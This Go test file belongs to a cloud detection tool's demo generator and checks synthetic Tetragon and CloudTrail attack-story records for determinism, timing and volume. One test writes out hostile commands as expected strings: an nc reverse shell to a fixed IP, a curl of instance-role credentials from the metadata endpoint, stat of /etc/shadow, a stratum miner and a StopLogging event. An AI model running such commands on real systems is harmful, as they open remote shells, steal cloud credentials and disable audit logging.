package demo_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/demo"
)

func TestGenerateNeedsNow(t *testing.T) {
	_, err := demo.Generate(demo.Options{Seed: 1})
	var e *cairn.Error
	if !errors.As(err, &e) || e.Code != cairn.EINVALID {
		t.Fatalf("Generate without Now: got %v, want an EINVALID error", err)
	}
}

func TestGenerateIsDeterministic(t *testing.T) {
	for _, seed := range []int64{1, 2, 42} {
		a, b := mustGenerate(t, seed), mustGenerate(t, seed)
		if !slices.EqualFunc(a.Tetragon, b.Tetragon, bytes.Equal) {
			t.Errorf("seed %d: Tetragon records differ between two runs", seed)
		}
		if !slices.EqualFunc(a.CloudTrail, b.CloudTrail, bytes.Equal) {
			t.Errorf("seed %d: CloudTrail records differ between two runs", seed)
		}
		ja, _ := json.Marshal(a.Truth)
		jb, _ := json.Marshal(b.Truth)
		if !bytes.Equal(ja, jb) {
			t.Errorf("seed %d: truth differs between two runs", seed)
		}
	}
}

// names collects the strings a seed varies.
func names(s *demo.Scenario) map[string]string {
	m := map[string]string{"account": s.Truth.AccountID}
	for _, st := range s.Truth.Stories {
		for i, w := range st.Workloads {
			if i == 0 {
				m[st.ID+".cluster"], m[st.ID+".namespace"], m[st.ID+".pod"], m[st.ID+".container"] = w.Cluster, w.Namespace, w.Pod, w.Container
			}
		}
		m[st.ID+".ips"] = strings.Join(st.AttackerIPs, ",")
		m[st.ID+".identities"] = strings.Join(st.Identities, ",")
		m[st.ID+".indicators"] = strings.Join(st.Indicators, ",")
	}
	return m
}

func TestSeedsDiffer(t *testing.T) {
	one := mustGenerate(t, 1)
	ids := map[string]bool{}
	for _, r := range parseCloudTrail(t, one) {
		ids[r.EventID] = true
	}
	execs := map[string]bool{}
	for _, r := range parseTetragon(t, one) {
		execs[r.event().Process.ExecID] = true
	}
	n1 := names(one)
	for _, seed := range []int64{2, 3, 7, -5} {
		s := mustGenerate(t, seed)
		n := names(s)
		for k, v := range n1 {
			if v == "" {
				continue // e.g. the CIS benchmark has no attacker
			}
			if n[k] == v {
				t.Errorf("seed %d has the same %s as seed 1: %q", seed, k, v)
			}
		}
		for _, r := range parseCloudTrail(t, s) {
			if ids[r.EventID] {
				t.Errorf("seed %d reuses seed 1's eventID %s", seed, r.EventID)
			}
		}
		for _, r := range parseTetragon(t, s) {
			if execs[r.event().Process.ExecID] {
				t.Errorf("seed %d reuses seed 1's exec id %s", seed, r.event().Process.ExecID)
				break
			}
		}
	}
}

// TestSeedOneUsesDesignNames checks the names of the design document (§8)
// in the records of seed 1, not only in its truth.
func TestSeedOneUsesDesignNames(t *testing.T) {
	s := mustGenerate(t, 1)
	recs := parseTetragon(t, s)
	find := func(pred func(r ttRecord, p *ttProc) bool) *ttRecord {
		for i := range recs {
			if r := recs[i]; r.Exec != nil && pred(r, r.Exec.Process) {
				return &recs[i]
			}
		}
		return nil
	}
	cases := []struct {
		name string
		pred func(r ttRecord, p *ttProc) bool
	}{
		{"stat /etc/shadow in benchmark-runner", func(_ ttRecord, p *ttProc) bool {
			return strings.HasSuffix(p.Binary, "/stat") && p.Arguments == "/etc/shadow" && p.Pod != nil && p.Pod.Container.Name == "benchmark-runner"
		}},
		{"nc 104.199.23.243 9001 -e /bin/sh under sh under java", func(r ttRecord, p *ttProc) bool {
			return strings.HasSuffix(p.Binary, "/nc") && p.Arguments == "104.199.23.243 9001 -e /bin/sh" &&
				r.Exec.Parent.Binary == "/bin/sh" && len(r.Exec.Ancestors) > 0 && strings.HasSuffix(r.Exec.Ancestors[0].Binary, "/java")
		}},
		{"./malicious-bin-event-gen.sh in risk-10-aws-bedrock-java", func(r ttRecord, p *ttProc) bool {
			return p.Arguments == "./malicious-bin-event-gen.sh" && p.Pod != nil && p.Pod.Namespace == "risk-10-aws-bedrock-java" &&
				r.ClusterName == "risks-aws-eks-workloads-shield"
		}},
		{"easyminer with a stratum pool", func(_ ttRecord, p *ttProc) bool {
			return p.Binary == "/tmp/easyminer" && strings.Contains(p.Arguments, "stratum+tcp://") && strings.Contains(p.Arguments, ":3333")
		}},
		{"curl of the instance role credentials", func(_ ttRecord, p *ttProc) bool {
			return strings.HasSuffix(p.Binary, "/curl") && strings.Contains(p.Arguments, "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
		}},
	}
	for _, c := range cases {
		if find(c.pred) == nil {
			t.Errorf("seed 1 has no exec record of %s", c.name)
		}
	}
	admin := false
	for _, r := range parseCloudTrail(t, s) {
		if r.UserIdentity.Type == "IAMUser" && strings.HasSuffix(r.UserIdentity.ARN, ":user/Admin6") && r.EventName == "StopLogging" {
			admin = true
		}
	}
	if !admin {
		t.Error("seed 1 has no StopLogging by IAM user Admin6")
	}
	if got := story(t, s, demo.StoryMiner).Workloads[0]; got.Cluster != "risks-aws-eks-workloads-shield" || got.Namespace != "risk-10-aws-bedrock-java" {
		t.Errorf("seed 1 miner workload = %s/%s", got.Cluster, got.Namespace)
	}
}

func TestStoriesAndTimes(t *testing.T) {
	for _, seed := range []int64{1, 2, 3, 99} {
		s := mustGenerate(t, seed)
		tr := s.Truth
		if !tr.Start.Equal(testNow.Add(-demo.Window)) || !tr.End.Equal(testNow) {
			t.Errorf("seed %d: truth window [%v, %v)", seed, tr.Start, tr.End)
		}
		var ids []string
		for _, st := range tr.Stories {
			ids = append(ids, st.ID)
			if len(st.Detections) == 0 || len(st.Techniques) == 0 || st.RootCause.Kind == "" || st.Summary == "" || len(st.Workloads) == 0 {
				t.Errorf("seed %d story %s is incomplete: %+v", seed, st.ID, st)
			}
			if st.Start.Before(tr.Start) || !st.End.Before(tr.End) || st.End.Before(st.Start) {
				t.Errorf("seed %d story %s spans [%v, %v], outside the window", seed, st.ID, st.Start, st.End)
			}
			for i, d := range st.Detections {
				if d.Time.Before(st.Start) || d.Time.After(st.End) {
					t.Errorf("seed %d story %s detection %q at %v outside the story [%v, %v]", seed, st.ID, d.What, d.Time, st.Start, st.End)
				}
				if i > 0 && d.Time.Before(st.Detections[i-1].Time) {
					t.Errorf("seed %d story %s detections out of order at %q", seed, st.ID, d.What)
				}
				if len(d.Techniques) == 0 {
					t.Errorf("seed %d story %s detection %q has no technique", seed, st.ID, d.What)
				}
			}
		}
		if want := []string{demo.StoryCIS, demo.StoryLog4Shell, demo.StoryMiner, demo.StoryScarleteel}; !slices.Equal(ids, want) {
			t.Errorf("seed %d stories %v, want %v", seed, ids, want)
		}
		// The attacks end minutes before Now.
		last := story(t, s, demo.StoryScarleteel).End
		if gap := testNow.Sub(last); gap < time.Minute || gap > 10*time.Minute {
			t.Errorf("seed %d: the last attack ends %v before Now", seed, gap)
		}
		if story(t, s, demo.StoryCIS).Malicious {
			t.Errorf("seed %d: the CIS benchmark is marked malicious", seed)
		}

		var prev time.Time
		for i, r := range parseTetragon(t, s) {
			tm, err := time.Parse(time.RFC3339Nano, r.Time)
			if err != nil {
				t.Fatalf("seed %d Tetragon record %d: time %q: %v", seed, i, r.Time, err)
			}
			if tm.Before(tr.Start) || !tm.Before(tr.End) {
				t.Errorf("seed %d Tetragon record %d at %v, outside the window", seed, i, tm)
			}
			if tm.Before(prev) {
				t.Errorf("seed %d Tetragon record %d out of time order", seed, i)
			}
			prev = tm
		}
		var pt time.Time
		for i, r := range parseCloudTrail(t, s) {
			if r.EventTime.Before(tr.Start) || !r.EventTime.Before(tr.End) {
				t.Errorf("seed %d CloudTrail record %d at %v, outside the window", seed, i, r.EventTime)
			}
			if r.EventTime.Before(pt) {
				t.Errorf("seed %d CloudTrail record %d out of time order", seed, i)
			}
			pt = r.EventTime
		}
	}
}

func TestVolumes(t *testing.T) {
	for _, seed := range []int64{1, 2, 3, 4, 5} {
		s := mustGenerate(t, seed)
		tt, ct := len(s.Tetragon), len(s.CloudTrail)
		if tt < 300 || ct < 200 || tt+ct > 5000 {
			t.Errorf("seed %d: %d Tetragon and %d CloudTrail records; want a few hundred of each and under 5000 in all", seed, tt, ct)
		}
		if s.Truth.TetragonRecords != tt || s.Truth.CloudTrailRecords != ct {
			t.Errorf("seed %d: truth counts %d/%d, records %d/%d", seed, s.Truth.TetragonRecords, s.Truth.CloudTrailRecords, tt, ct)
		}
		miners := len(story(t, s, demo.StoryMiner).Workloads)
		if miners < 3 || miners > 5 {
			t.Errorf("seed %d: the miner runs on %d workloads, want 3 to 5", seed, miners)
		}
	}
}
